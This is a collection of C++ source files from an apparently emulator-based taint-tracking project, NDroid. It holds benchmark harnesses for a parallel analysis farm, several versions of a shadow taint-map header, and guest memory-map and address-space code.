  if (p2_cold.report.cache.store_writes == 0) {
    std::printf("FAIL: cold store row wrote no entries\n");
    ++failures;
  }
  if (p2_warm.report.warm_entries == 0 ||
      p2_warm.report.cache.store_writes != 0) {
    std::printf("FAIL: warm store row not actually warm (%u entries, "
                "%llu writes)\n", p2_warm.report.warm_entries,
                static_cast<unsigned long long>(
                    p2_warm.report.cache.store_writes));
    ++failures;
  }
  // The acceptance criteria for the fork pool: the zygote's copy-on-write
  // template must cut per-job setup_ms against the same topology without
  // it, and the warm store must cut static_ms against its own cold run.
  if (p2_no_tmpl.setup_ms > 0 && p2_warm.setup_ms >= p2_no_tmpl.setup_ms) {
    std::printf("FAIL: zygote template did not reduce setup_ms "
                "(%.2fms vs no-template %.2fms)\n", p2_warm.setup_ms,
                p2_no_tmpl.setup_ms);
    ++failures;
  }
  if (p2_cold.static_ms > 0 && p2_warm.static_ms >= p2_cold.static_ms) {
    std::printf("FAIL: warm store did not reduce static_ms "
                "(%.2fms vs cold %.2fms)\n", p2_warm.static_ms,
                p2_cold.static_ms);
    ++failures;
  }
  if (host_cpus >= 4) {
    if (speedup_w8_vs_w1 < 3.0) {
      std::printf("FAIL: w8 speedup %.2fx < 3x on a %u-cpu host\n",
                  speedup_w8_vs_w1, host_cpus);
      ++failures;
    }
  } else {
    std::printf("  (skipping >=3x scaling check: host has %u cpu%s)\n",
                host_cpus, host_cpus == 1 ? "" : "s");
  }

  // ---- JSON --------------------------------------------------------------
  const char* sha = std::getenv("GIT_SHA");
  std::ofstream out(json_path);
  out << "{\n  \"context\": {\n"
      << "    \"host_cpus\": " << host_cpus << ",\n"
      << "    \"library_build_type\": \"" << build_type() << "\",\n"
      << "    \"git_sha\": \"" << (sha != nullptr ? sha : "") << "\",\n"
      << "    \"engine\": \"" << farm::to_string(g_engine) << "\",\n"
      << "    \"reps\": " << reps << ",\n"
      << "    \"jobs\": " << jobs.size() << "\n  },\n";
  out << "  \"rows\": [\n";
  for (std::size_t i = 0; i < rows.size(); ++i) {
    const RowResult& row = rows[i];
    const auto& c = row.report.cache;
    out << "    {\"config\": \"" << row.label << "\", \"workers\": "
        << row.workers << ", \"processes\": " << row.processes
        << ", \"shared_cache\": " << (row.shared ? "true" : "false")
        << ", \"store\": " << (row.store ? "true" : "false")
        << ", \"wall_ms\": " << row.report.wall_ms << ", \"apps_per_sec\": "
        << row.report.apps_per_sec << ", \"setup_ms\": " << row.setup_ms
        << ", \"static_ms\": " << row.static_ms << ", \"run_ms\": "
        << row.run_ms << ", \"cache_hits\": " << c.hits
        << ", \"cache_misses\": " << c.misses << ", \"cache_rebinds\": "
        << c.rebinds << ", \"cache_hit_rate\": " << c.hit_rate()
        << ", \"store_hits\": " << c.store_hits << ", \"store_writes\": "
        << c.store_writes << ", \"warm_entries\": "
        << row.report.warm_entries << ", \"retries\": " << row.report.retries
        << ", \"worker_deaths\": " << row.report.worker_deaths
        << ", \"failures\": " << row.report.failures << "}"
        << (i + 1 < rows.size() ? "," : "") << "\n";
  }
  out << "  ],\n";
  out << "  \"speedup_w8_vs_w1\": " << speedup_w8_vs_w1 << ",\n";
  out << "  \"speedup_w8_vs_serial\": " << speedup_w8_vs_serial << ",\n";
  out << "  \"static_ms_saving_vs_no_cache\": " << static_saving << ",\n";
  out << "  \"setup_ms_saving_zygote_template\": " << setup_saving << ",\n";
  out << "  \"static_ms_saving_warm_store\": " << procs_static_saving
      << ",\n";
  out << "  \"digests_identical\": "
      << (failures == 0 ? "true" : "false") << "\n}\n";
  std::printf("\nwrote %s\n", json_path.c_str());

  return failures == 0 ? 0 : 1;
}
