// Farm throughput and summary-cache amortisation (src/farm).
//
// Runs the same repeated corpus (Table I cases + CF-Bench workloads +
// market apps + monkey-driven real apps) through five configurations:
//
//   serial/no-cache  — workers=0, per-job lifting (the pre-farm baseline);
//   farm w=1,2,4,8   — work-stealing workers over a fresh shared
//                      summary cache per row.
//
// Records wall clock, apps/sec, per-phase time totals, and cache counters
// into BENCH_farm.json, and enforces the invariants that hold on any host:
//   * every row's leak digest is byte-identical (worker-count determinism);
//   * zero job failures;
//   * cache hit rate > 90% on the repeated corpus (>= 10 repetitions);
//   * the cache strictly reduces summed static-analysis time vs no-cache.
// The >= 3x w=8-vs-w=1 throughput check only runs when the host has >= 4
// CPUs: thread scaling cannot show wall-clock gains on fewer cores (this
// repo's reference box has 1), and honest numbers beat fabricated ones.
//
//   bench_farm [reps] [--json out.json] [--engine interp|tb|tb+tlb|threaded]
#include <cstdio>
#include <cstring>
#include <fstream>
#include <string>
#include <thread>
#include <vector>

#include "farm/farm.h"
#include "farm/providers.h"

using namespace ndroid;

namespace {

struct RowResult {
  std::string label;
  u32 workers = 0;
  bool shared = false;
  farm::FarmReport report;
  double setup_ms = 0, static_ms = 0, run_ms = 0;
};

farm::EngineTier g_engine = farm::EngineTier::kThreaded;

RowResult run_row(const std::string& label, u32 workers, bool shared,
                  const std::vector<farm::JobSpec>& jobs) {
  farm::FarmOptions options;
  options.workers = workers;
  options.share_summaries = shared;
  options.engine = g_engine;
  RowResult row;
  row.label = label;
  row.workers = workers;
  row.shared = shared;
  row.report = farm::run_farm(jobs, options);
  for (const farm::JobResult& r : row.report.results) {
    row.setup_ms += r.timing.setup_ms;
    row.static_ms += r.timing.static_ms;
    row.run_ms += r.timing.run_ms;
  }
  return row;
}

const char* build_type() {
#ifdef NDEBUG
  return "release";
#else
  return "debug";
#endif
}

}  // namespace

int main(int argc, char** argv) {
  u32 reps = 12;
  std::string json_path = "BENCH_farm.json";
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--json") == 0 && i + 1 < argc) {
      json_path = argv[++i];
    } else if (std::strcmp(argv[i], "--engine") == 0 && i + 1 < argc) {
      g_engine = farm::parse_engine(argv[++i]);
    } else {
      reps = static_cast<u32>(std::strtoul(argv[i], nullptr, 10));
    }
  }

  const u32 host_cpus = std::max(1u, std::thread::hardware_concurrency());
  const std::vector<farm::JobSpec> jobs = farm::repeat_jobs(
      farm::default_mix(/*cfbench_iterations=*/10, /*market_apps=*/8,
                        /*monkey_events=*/8, /*seed=*/20140623),
      reps);

  std::printf(
      "bench_farm: %zu jobs (%u reps), host_cpus=%u, %s build, %s engine\n\n",
      jobs.size(), reps, host_cpus, build_type(), farm::to_string(g_engine));
  std::printf("%-18s %10s %10s %9s %9s %10s\n", "config", "wall_ms",
              "apps/sec", "hits", "misses", "hit_rate");

  std::vector<RowResult> rows;
  rows.push_back(run_row("serial/no-cache", 0, false, jobs));
  for (const u32 w : {1u, 2u, 4u, 8u}) {
    rows.push_back(run_row("farm w=" + std::to_string(w), w, true, jobs));
  }

  for (const RowResult& row : rows) {
    const auto& c = row.report.cache;
    std::printf("%-18s %10.1f %10.1f %9llu %9llu %9.1f%%\n", row.label.c_str(),
                row.report.wall_ms, row.report.apps_per_sec,
                static_cast<unsigned long long>(c.hits),
                static_cast<unsigned long long>(c.misses),
                100.0 * c.hit_rate());
  }

  const RowResult& serial = rows[0];
  const RowResult& w1 = rows[1];
  const RowResult& w8 = rows[4];
  const double speedup_w8_vs_w1 =
      w8.report.wall_ms > 0 ? w1.report.wall_ms / w8.report.wall_ms : 0.0;
  const double speedup_w8_vs_serial =
      w8.report.wall_ms > 0 ? serial.report.wall_ms / w8.report.wall_ms : 0.0;
  const double static_saving = serial.static_ms > 0
                                   ? 1.0 - w1.static_ms / serial.static_ms
                                   : 0.0;
  std::printf(
      "\n  speedup w8 vs w1       %.2fx\n"
      "  speedup w8 vs serial   %.2fx\n"
      "  static-ms saved by cache (w1 vs no-cache)  %.1f%%\n",
      speedup_w8_vs_w1, speedup_w8_vs_serial, 100.0 * static_saving);

  // ---- shape checks ------------------------------------------------------
  int failures = 0;
  const std::string reference = serial.report.leak_digest();
  for (const RowResult& row : rows) {
    if (row.report.failures != 0) {
      std::printf("FAIL: %s had %u job failures\n", row.label.c_str(),
                  row.report.failures);
      ++failures;
    }
    if (row.report.leak_digest() != reference) {
      std::printf("FAIL: %s leak digest differs from serial\n",
                  row.label.c_str());
      ++failures;
    }
  }
  if (reps >= 10) {
    for (std::size_t i = 1; i < rows.size(); ++i) {
      if (rows[i].report.cache.hit_rate() <= 0.90) {
        std::printf("FAIL: %s hit rate %.1f%% <= 90%%\n",
                    rows[i].label.c_str(),
                    100.0 * rows[i].report.cache.hit_rate());
        ++failures;
      }
    }
  }
  if (serial.static_ms > 0 && w1.static_ms >= serial.static_ms) {
    std::printf("FAIL: shared cache did not reduce static-analysis time "
                "(%.2fms vs %.2fms)\n", w1.static_ms, serial.static_ms);
    ++failures;
  }
  if (host_cpus >= 4) {
    if (speedup_w8_vs_w1 < 3.0) {
      std::printf("FAIL: w8 speedup %.2fx < 3x on a %u-cpu host\n",
                  speedup_w8_vs_w1, host_cpus);
      ++failures;
    }
  } else {
    std::printf("  (skipping >=3x scaling check: host has %u cpu%s)\n",
                host_cpus, host_cpus == 1 ? "" : "s");
  }

  // ---- JSON --------------------------------------------------------------
  const char* sha = std::getenv("GIT_SHA");
  std::ofstream out(json_path);
  out << "{\n  \"context\": {\n"
      << "    \"host_cpus\": " << host_cpus << ",\n"
      << "    \"library_build_type\": \"" << build_type() << "\",\n"
      << "    \"git_sha\": \"" << (sha != nullptr ? sha : "") << "\",\n"
      << "    \"engine\": \"" << farm::to_string(g_engine) << "\",\n"
      << "    \"reps\": " << reps << ",\n"
      << "    \"jobs\": " << jobs.size() << "\n  },\n";
  out << "  \"rows\": [\n";
  for (std::size_t i = 0; i < rows.size(); ++i) {
    const RowResult& row = rows[i];
    const auto& c = row.report.cache;
    out << "    {\"config\": \"" << row.label << "\", \"workers\": "
        << row.workers << ", \"shared_cache\": "
        << (row.shared ? "true" : "false") << ", \"wall_ms\": "
        << row.report.wall_ms << ", \"apps_per_sec\": "
        << row.report.apps_per_sec << ", \"setup_ms\": " << row.setup_ms
        << ", \"static_ms\": " << row.static_ms << ", \"run_ms\": "
        << row.run_ms << ", \"cache_hits\": " << c.hits
        << ", \"cache_misses\": " << c.misses << ", \"cache_rebinds\": "
        << c.rebinds << ", \"cache_hit_rate\": " << c.hit_rate()
        << ", \"failures\": " << row.report.failures << "}"
        << (i + 1 < rows.size() ? "," : "") << "\n";
  }
  out << "  ],\n";
  out << "  \"speedup_w8_vs_w1\": " << speedup_w8_vs_w1 << ",\n";
  out << "  \"speedup_w8_vs_serial\": " << speedup_w8_vs_serial << ",\n";
  out << "  \"static_ms_saving_vs_no_cache\": " << static_saving << ",\n";
  out << "  \"digests_identical\": "
      << (failures == 0 ? "true" : "false") << "\n}\n";
  std::printf("\nwrote %s\n", json_path.c_str());

  return failures == 0 ? 0 : 1;
}
