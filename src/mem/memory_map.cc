#include "mem/memory_map.h"

#include <algorithm>

namespace ndroid::mem {

const Region& MemoryMap::add(std::string name, GuestAddr start, u32 size,
                             Perm perms) {
  if (size == 0) throw GuestFault("empty region: " + name);
  const GuestAddr end = start + size;
  if (end < start) throw GuestFault("region wraps address space: " + name);
  for (const Region& r : regions_) {
    if (start < r.end && r.start < end) {
      throw GuestFault("region '" + name + "' overlaps '" + r.name + "'");
    }
  }
  Region region{std::move(name), start, end, perms};
  auto it = std::lower_bound(
      regions_.begin(), regions_.end(), region,
      [](const Region& a, const Region& b) { return a.start < b.start; });
  return *regions_.insert(it, std::move(region));
}

void MemoryMap::remove(GuestAddr start) {
  std::erase_if(regions_, [&](const Region& r) { return r.start == start; });
}

const Region* MemoryMap::find(GuestAddr addr) const {
  auto it = std::upper_bound(
      regions_.begin(), regions_.end(), addr,
      [](GuestAddr a, const Region& r) { return a < r.start; });
  if (it == regions_.begin()) return nullptr;
  --it;
  return it->contains(addr) ? &*it : nullptr;
}

const Region* MemoryMap::find_by_name(std::string_view name) const {
  for (const Region& r : regions_) {
    if (r.name == name) return &r;
  }
  return nullptr;
}

std::string MemoryMap::module_of(GuestAddr addr) const {
  const Region* r = find(addr);
  return r ? r->name : "<unmapped>";
}

GuestAddr MemoryMap::find_free(u32 size, GuestAddr hint) const {
  GuestAddr candidate = hint;
  for (const Region& r : regions_) {
    if (r.end <= candidate) continue;
    if (r.start >= candidate && r.start - candidate >= size) break;
    candidate = r.end;
  }
  return candidate;
}

}  // namespace ndroid::mem
