// Byte-granularity sparse taint map over guest memory.
//
// This is the storage half of NDroid's Taint Engine (paper §V-E): "NDroid
// maintains shadow registers to store the related registers' taints and a
// taint map to store the memories' taints. The taint granularity of NDroid
// is byte." Combination is bitwise OR of 32-bit labels.
//
// Data-plane layout mirrors AddressSpace (see address_space.h):
//  * a direct-mapped shadow TLB of (page number -> Page*) replaces the old
//    one-entry cursor, so interleaved accesses to a handful of pages (the
//    memcpy pattern: alternating src/dst) stay lookup-free;
//  * a flat two-level page directory replaces the unordered_map, making
//    misses two dependent loads and any_tainted_in a walk over resident
//    leaves only;
//  * range ops are page-chunked and word-granular: get_range OR-reduces
//    64 bits per step, set_range/add_range/copy_range account live-byte
//    deltas from chunk scans and bulk fill/copy instead of per-byte
//    read-modify-write.
//
// Exact bookkeeping the fast paths must preserve:
//  * `tainted_bytes()` is O(1), maintained by every mutation (the
//    taint-liveness gate reads it per block);
//  * the liveness epoch bumps when tainted_bytes() crosses zero and the
//    mutation epoch bumps when any page's live count crosses zero. Range
//    ops bump per (op, page) — the net transition a gate could observe —
//    rather than per byte; gates only ever sample between ops, so
//    intermediate same-op oscillation (clear then retaint of one page
//    inside a single copy) is indistinguishable either way.
#pragma once

#include <array>
#include <memory>

#include "common/types.h"

namespace ndroid::mem {

class ShadowMemory {
 public:
  static constexpr u32 kPageShift = 12;
  static constexpr u32 kPageSize = 1u << kPageShift;
  static constexpr u32 kPageMask = kPageSize - 1;

  // Two-level directory over the 2^20 page numbers (same shape as
  // AddressSpace's, see there for the layout rationale).
  static constexpr u32 kLeafBits = 10;
  static constexpr u32 kLeafSlots = 1u << kLeafBits;
  static constexpr u32 kRootSlots = 1u << (32 - kPageShift - kLeafBits);

  // Shadow TLB: smaller than the guest-memory one — taint access locality
  // is a few pages (tracer window, memcpy src+dst), not a working set.
  static constexpr u32 kTlbBits = 6;
  static constexpr u32 kTlbSlots = 1u << kTlbBits;

  static constexpr u32 kNoPage = 0xFFFFFFFFu;

  // Direct-mapped shadow-page pointer cache probed inline by the traced JIT
  // streams. Same entry shape as the data TLB in AddressSpace (16-byte
  // entries, page number at +0, host pointer at +8) so the JIT reuses one
  // probe template for both. Misses and page-straddling accesses fall back
  // to callouts that fill through jit_fill(). An absent page is negatively
  // cached as the shared all-zero label page — clean loads stay inline —
  // and that entry is dropped the moment the real page materialises.
  static constexpr u32 kJitTlbBits = 8;
  static constexpr u32 kJitTlbSlots = 1u << kJitTlbBits;
  struct JitTlbEntry {
    u32 page = kNoPage;             // guest page number, kNoPage when empty
    u32 pad = 0;
    const Taint* labels = nullptr;  // page's label array (or kZeroLabels)
  };
  static_assert(sizeof(JitTlbEntry) == 16, "inline probe assumes 16B slots");

  ShadowMemory() = default;
  ShadowMemory(const ShadowMemory&) = delete;
  ShadowMemory& operator=(const ShadowMemory&) = delete;

  /// Taint of one guest byte (clear if never set).
  [[nodiscard]] Taint get(GuestAddr addr) const;

  /// Union of the taints of [addr, addr+len).
  [[nodiscard]] Taint get_range(GuestAddr addr, u32 len) const;

  /// Overwrites the taint of one byte (clears it when taint == 0).
  void set(GuestAddr addr, Taint taint);

  /// ORs taint into one byte.
  void add(GuestAddr addr, Taint taint);

  void set_range(GuestAddr addr, u32 len, Taint taint);
  void add_range(GuestAddr addr, u32 len, Taint taint);
  void clear_range(GuestAddr addr, u32 len) { set_range(addr, len, 0); }

  /// Copies taints byte-for-byte, dst[i] = src[i] (memcpy's shadow op).
  /// Handles overlap like memmove; self-copy (dst == src) is a no-op.
  void copy_range(GuestAddr dst, GuestAddr src, u32 len);

  /// ORs taints byte-for-byte, dst[i] |= src[i] — the shadow op of the
  /// syslib string/memcpy models (Table VI: add(dst+i, get(src+i))).
  /// On overlapping ranges this falls back to the per-byte forward loop so
  /// the historical cascade semantics (a byte ORed early can be re-read as
  /// a later source byte) are preserved bit-for-bit.
  void or_copy_range(GuestAddr dst, GuestAddr src, u32 len);

  void clear_all();

  /// Count of bytes with a non-zero label. O(1): maintained incrementally
  /// by every mutation (the taint-liveness fast path reads it per block).
  [[nodiscard]] u64 tainted_bytes() const { return live_bytes_; }

  /// Number of shadow pages currently materialised. O(1).
  [[nodiscard]] std::size_t resident_pages() const { return resident_; }

  /// True when any byte of [lo, hi) *may* be tainted, answered at page
  /// granularity from the per-page live counters: every page overlapping the
  /// range must be absent or fully clear for a false answer. Conservative by
  /// design — the summary gate only ever uses a false answer to skip work.
  /// Cost scales with *resident* leaves in the window (a multi-GiB query
  /// over a near-empty map is a few root-slot null checks), not with the
  /// window's page count.
  [[nodiscard]] bool any_tainted_in(GuestAddr lo, GuestAddr hi) const;

  /// Optional counter bumped whenever tainted_bytes() crosses zero in either
  /// direction — the liveness epoch the block-gate memo is validated against
  /// (see arm::Cpu::set_block_gate). Wired by TaintEngine.
  void set_liveness_epoch_slot(u64* slot) { epoch_slot_ = slot; }

  /// Optional counter bumped whenever any page's live-byte count crosses
  /// zero — exactly the events that can change an any_tainted_in() answer.
  /// Strictly more frequent than the liveness epoch; the summary-gated block
  /// memo is validated against this one. Wired by TaintEngine.
  void set_mutation_epoch_slot(u64* slot) { mutation_slot_ = slot; }

  /// Fills the JIT shadow TLB slot covering addr and returns the label array
  /// host code reads through it: the resident page's, or the shared all-zero
  /// page when addr's page was never materialised (negative caching — reads
  /// of untainted memory stay on the inline path).
  const Taint* jit_fill(GuestAddr addr) const;

  /// Base of the JIT shadow TLB, for baking into emitted host code. Slot
  /// count is kJitTlbSlots; layout is JitTlbEntry.
  [[nodiscard]] const JitTlbEntry* jit_tlb_base() const {
    return jit_tlb_.data();
  }

 private:
  struct Page {
    std::array<Taint, kPageSize> bytes;
    u32 live = 0;  // bytes of this page with a non-zero label
  };
  struct Leaf {
    std::array<std::unique_ptr<Page>, kLeafSlots> pages;
  };

  struct TlbEntry {
    u32 page = kNoPage;
    Page* host = nullptr;
  };

  [[nodiscard]] Page* find_page(GuestAddr addr) const {
    const u32 page_no = addr >> kPageShift;
    TlbEntry& e = tlb_[page_no & (kTlbSlots - 1)];
    if (e.page == page_no) return e.host;
    const Leaf* leaf = root_[page_no >> kLeafBits].get();
    Page* p =
        leaf == nullptr ? nullptr : leaf->pages[page_no & (kLeafSlots - 1)].get();
    if (p != nullptr) e = {page_no, p};
    return p;
  }
  Page& touch_page(GuestAddr addr);

  /// Bumps the liveness epoch if live_bytes_ crossed zero since `was`.
  void note_liveness(bool was) {
    if (epoch_slot_ != nullptr && (live_bytes_ != 0) != was) ++*epoch_slot_;
  }
  /// Bumps the mutation epoch if a page's live count crossed zero.
  void note_page(u32 live_before, u32 live_after) {
    if (mutation_slot_ != nullptr && (live_before != 0) != (live_after != 0)) {
      ++*mutation_slot_;
    }
  }
  /// Live bytes within [first, first+count) of a page, using the page
  /// counter shortcut at the extremes.
  [[nodiscard]] static u32 count_live(const Page& p, u32 first, u32 count) {
    if (p.live == 0) return 0;
    if (count == kPageSize) return p.live;
    u32 n = 0;
    for (u32 i = 0; i < count; ++i) n += p.bytes[first + i] != kTaintClear;
    return n;
  }

  std::array<std::unique_ptr<Leaf>, kRootSlots> root_;
  std::size_t resident_ = 0;
  u64 live_bytes_ = 0;
  u64* epoch_slot_ = nullptr;
  u64* mutation_slot_ = nullptr;
  mutable std::array<TlbEntry, kTlbSlots> tlb_;
  mutable std::array<JitTlbEntry, kJitTlbSlots> jit_tlb_;
  static const std::array<Taint, kPageSize> kZeroLabels;
};

}  // namespace ndroid::mem
