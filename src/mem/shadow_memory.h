// Byte-granularity sparse taint map over guest memory.
//
// This is the storage half of NDroid's Taint Engine (paper §V-E): "NDroid
// maintains shadow registers to store the related registers' taints and a
// taint map to store the memories' taints. The taint granularity of NDroid
// is byte." Combination is bitwise OR of 32-bit labels.
#pragma once

#include <array>
#include <memory>
#include <unordered_map>

#include "common/types.h"

namespace ndroid::mem {

class ShadowMemory {
 public:
  static constexpr u32 kPageShift = 12;
  static constexpr u32 kPageSize = 1u << kPageShift;
  static constexpr u32 kPageMask = kPageSize - 1;

  /// Taint of one guest byte (clear if never set).
  [[nodiscard]] Taint get(GuestAddr addr) const;

  /// Union of the taints of [addr, addr+len).
  [[nodiscard]] Taint get_range(GuestAddr addr, u32 len) const;

  /// Overwrites the taint of one byte (clears it when taint == 0).
  void set(GuestAddr addr, Taint taint);

  /// ORs taint into one byte.
  void add(GuestAddr addr, Taint taint);

  void set_range(GuestAddr addr, u32 len, Taint taint);
  void add_range(GuestAddr addr, u32 len, Taint taint);
  void clear_range(GuestAddr addr, u32 len) { set_range(addr, len, 0); }

  /// Copies taints byte-for-byte, dst[i] = src[i] (memcpy's shadow op).
  void copy_range(GuestAddr dst, GuestAddr src, u32 len);

  void clear_all() { pages_.clear(); }

  /// Count of bytes with a non-zero label (diagnostics / tests).
  [[nodiscard]] u64 tainted_bytes() const;

 private:
  using Page = std::array<Taint, kPageSize>;

  [[nodiscard]] const Page* find_page(GuestAddr addr) const;
  Page& touch_page(GuestAddr addr);

  std::unordered_map<u32, std::unique_ptr<Page>> pages_;
};

}  // namespace ndroid::mem
