// Byte-granularity sparse taint map over guest memory.
//
// This is the storage half of NDroid's Taint Engine (paper §V-E): "NDroid
// maintains shadow registers to store the related registers' taints and a
// taint map to store the memories' taints. The taint granularity of NDroid
// is byte." Combination is bitwise OR of 32-bit labels.
//
// Two hot-path accelerations feed the translation-block fast path:
//  * a one-entry page cursor so consecutive accesses to the same 4 KiB page
//    skip the hash lookup entirely;
//  * an exact live-byte counter (`tainted_bytes()` is O(1)) so the
//    taint-liveness gate can ask "is anything tainted?" per block.
#pragma once

#include <array>
#include <memory>
#include <unordered_map>

#include "common/types.h"

namespace ndroid::mem {

class ShadowMemory {
 public:
  static constexpr u32 kPageShift = 12;
  static constexpr u32 kPageSize = 1u << kPageShift;
  static constexpr u32 kPageMask = kPageSize - 1;

  /// Taint of one guest byte (clear if never set).
  [[nodiscard]] Taint get(GuestAddr addr) const;

  /// Union of the taints of [addr, addr+len).
  [[nodiscard]] Taint get_range(GuestAddr addr, u32 len) const;

  /// Overwrites the taint of one byte (clears it when taint == 0).
  void set(GuestAddr addr, Taint taint);

  /// ORs taint into one byte.
  void add(GuestAddr addr, Taint taint);

  void set_range(GuestAddr addr, u32 len, Taint taint);
  void add_range(GuestAddr addr, u32 len, Taint taint);
  void clear_range(GuestAddr addr, u32 len) { set_range(addr, len, 0); }

  /// Copies taints byte-for-byte, dst[i] = src[i] (memcpy's shadow op).
  void copy_range(GuestAddr dst, GuestAddr src, u32 len);

  void clear_all() {
    const bool was = live_bytes_ != 0;
    if (mutation_slot_ != nullptr && live_bytes_ != 0) ++*mutation_slot_;
    pages_.clear();
    live_bytes_ = 0;
    cursor_page_ = kNoPage;
    cursor_ = nullptr;
    note_liveness(was);
  }

  /// Count of bytes with a non-zero label. O(1): maintained incrementally
  /// by every mutation (the taint-liveness fast path reads it per block).
  [[nodiscard]] u64 tainted_bytes() const { return live_bytes_; }

  /// True when any byte of [lo, hi) *may* be tainted, answered at page
  /// granularity from the per-page live counters: every page overlapping the
  /// range must be absent or fully clear for a false answer. Conservative by
  /// design — the summary gate only ever uses a false answer to skip work.
  [[nodiscard]] bool any_tainted_in(GuestAddr lo, GuestAddr hi) const;

  /// Optional counter bumped whenever tainted_bytes() crosses zero in either
  /// direction — the liveness epoch the block-gate memo is validated against
  /// (see arm::Cpu::set_block_gate). Wired by TaintEngine.
  void set_liveness_epoch_slot(u64* slot) { epoch_slot_ = slot; }

  /// Optional counter bumped whenever any page's live-byte count crosses
  /// zero — exactly the events that can change an any_tainted_in() answer.
  /// Strictly more frequent than the liveness epoch; the summary-gated block
  /// memo is validated against this one. Wired by TaintEngine.
  void set_mutation_epoch_slot(u64* slot) { mutation_slot_ = slot; }

 private:
  struct Page {
    std::array<Taint, kPageSize> bytes;
    u32 live = 0;  // bytes of this page with a non-zero label
  };
  static constexpr u32 kNoPage = 0xFFFFFFFFu;

  [[nodiscard]] const Page* find_page(GuestAddr addr) const;
  Page& touch_page(GuestAddr addr);
  /// Bumps the liveness epoch if live_bytes_ crossed zero since `was`.
  void note_liveness(bool was) {
    if (epoch_slot_ != nullptr && (live_bytes_ != 0) != was) ++*epoch_slot_;
  }
  /// Bumps the mutation epoch if a page's live count crossed zero.
  void note_page(u32 live_before, u32 live_after) {
    if (mutation_slot_ != nullptr && (live_before != 0) != (live_after != 0)) {
      ++*mutation_slot_;
    }
  }

  std::unordered_map<u32, std::unique_ptr<Page>> pages_;
  u64 live_bytes_ = 0;
  u64* epoch_slot_ = nullptr;
  u64* mutation_slot_ = nullptr;

  // One-entry cursor over the last page touched; Page allocations are
  // stable across rehashes, and pages are only dropped by clear_all().
  mutable u32 cursor_page_ = kNoPage;
  mutable Page* cursor_ = nullptr;
};

}  // namespace ndroid::mem
