// Region registry: the guest analogue of /proc/<pid>/maps.
//
// NDroid's OS-level view reconstructor and its hook engines resolve guest
// addresses to named modules ("libdvm.so", "libc.so", the app's own
// "libfoo.so") through this map (paper §V-F, §V-G).
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "common/types.h"

namespace ndroid::mem {

enum class Perm : u8 {
  kNone = 0,
  kRead = 1,
  kWrite = 2,
  kExec = 4,
};

constexpr Perm operator|(Perm a, Perm b) {
  return static_cast<Perm>(static_cast<u8>(a) | static_cast<u8>(b));
}
constexpr bool has_perm(Perm set, Perm p) {
  return (static_cast<u8>(set) & static_cast<u8>(p)) != 0;
}

inline constexpr Perm kRX = Perm::kRead | Perm::kExec;
inline constexpr Perm kRW = Perm::kRead | Perm::kWrite;
inline constexpr Perm kRWX = Perm::kRead | Perm::kWrite | Perm::kExec;

struct Region {
  std::string name;
  GuestAddr start = 0;
  GuestAddr end = 0;  // exclusive
  Perm perms = Perm::kNone;

  [[nodiscard]] bool contains(GuestAddr addr) const {
    return addr >= start && addr < end;
  }
  [[nodiscard]] u32 size() const { return end - start; }
};

class MemoryMap {
 public:
  /// Registers [start, start+size); overlapping an existing region throws.
  const Region& add(std::string name, GuestAddr start, u32 size, Perm perms);

  void remove(GuestAddr start);

  [[nodiscard]] const Region* find(GuestAddr addr) const;
  [[nodiscard]] const Region* find_by_name(std::string_view name) const;

  /// Name of the region containing addr, or "<unmapped>".
  [[nodiscard]] std::string module_of(GuestAddr addr) const;

  [[nodiscard]] const std::vector<Region>& regions() const { return regions_; }

  /// Lowest address >= hint where a size-byte region fits.
  [[nodiscard]] GuestAddr find_free(u32 size, GuestAddr hint) const;

 private:
  std::vector<Region> regions_;  // kept sorted by start
};

}  // namespace ndroid::mem
