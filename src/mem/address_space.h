// Sparse paged guest address space.
//
// The emulated machine is a 32-bit ARM system; this class provides its flat
// physical/virtual memory (we do not model an MMU — Android processes are
// distinguished by non-overlapping map ranges, which is sufficient for the
// analyses in the paper). Storage is allocated lazily in 4 KiB pages so a
// full 4 GiB space costs only what is touched.
#pragma once

#include <array>
#include <cstring>
#include <functional>
#include <memory>
#include <span>
#include <string>
#include <unordered_map>

#include "common/types.h"

namespace ndroid::mem {

class AddressSpace {
 public:
  static constexpr u32 kPageShift = 12;
  static constexpr u32 kPageSize = 1u << kPageShift;
  static constexpr u32 kPageMask = kPageSize - 1;

  AddressSpace() = default;
  AddressSpace(const AddressSpace&) = delete;
  AddressSpace& operator=(const AddressSpace&) = delete;

  // Reads fault-free: untouched memory reads as zero (like zero-fill mmap).
  [[nodiscard]] u8 read8(GuestAddr addr) const;
  [[nodiscard]] u16 read16(GuestAddr addr) const;
  [[nodiscard]] u32 read32(GuestAddr addr) const;
  [[nodiscard]] u64 read64(GuestAddr addr) const;

  void write8(GuestAddr addr, u8 value);
  void write16(GuestAddr addr, u16 value);
  void write32(GuestAddr addr, u32 value);
  void write64(GuestAddr addr, u64 value);

  void read_bytes(GuestAddr addr, std::span<u8> out) const;
  void write_bytes(GuestAddr addr, std::span<const u8> in);

  /// Reads a NUL-terminated guest string (bounded to keep a missing
  /// terminator from scanning the whole space).
  [[nodiscard]] std::string read_cstr(GuestAddr addr,
                                      u32 max_len = 1u << 20) const;
  void write_cstr(GuestAddr addr, std::string_view s);

  void fill(GuestAddr addr, u8 value, u32 len);

  /// Byte-wise copy within guest memory; handles overlap like memmove.
  void copy(GuestAddr dst, GuestAddr src, u32 len);

  /// Number of pages currently materialised (memory footprint diagnostics).
  [[nodiscard]] std::size_t resident_pages() const { return pages_.size(); }

  /// Write watch: `page_bitmap` is a caller-owned byte-per-4KiB-page map of
  /// interesting pages; `watch` fires after any write touching a marked
  /// page. The translation-block cache uses this to invalidate cached code
  /// on self-modification (both guest stores and host-side loads go through
  /// these write paths). Pass nullptrs to clear.
  using WriteWatch = std::function<void(GuestAddr addr, u32 len)>;
  void set_write_watch(const u8* page_bitmap, WriteWatch watch) {
    watch_pages_ = page_bitmap;
    watch_ = std::move(watch);
  }

 private:
  using Page = std::array<u8, kPageSize>;

  [[nodiscard]] const Page* find_page(GuestAddr addr) const;
  Page& touch_page(GuestAddr addr);

  /// One predictable branch on the hot write path when no watch is set.
  void notify_write(GuestAddr addr, u32 len) {
    if (watch_pages_ == nullptr) [[likely]] return;
    const u32 first = addr >> kPageShift;
    const u32 last = (addr + len - 1) >> kPageShift;
    for (u32 page = first; page <= last; ++page) {
      if (watch_pages_[page]) {
        watch_(addr, len);
        return;
      }
    }
  }

  std::unordered_map<u32, std::unique_ptr<Page>> pages_;
  const u8* watch_pages_ = nullptr;
  WriteWatch watch_;
};

}  // namespace ndroid::mem
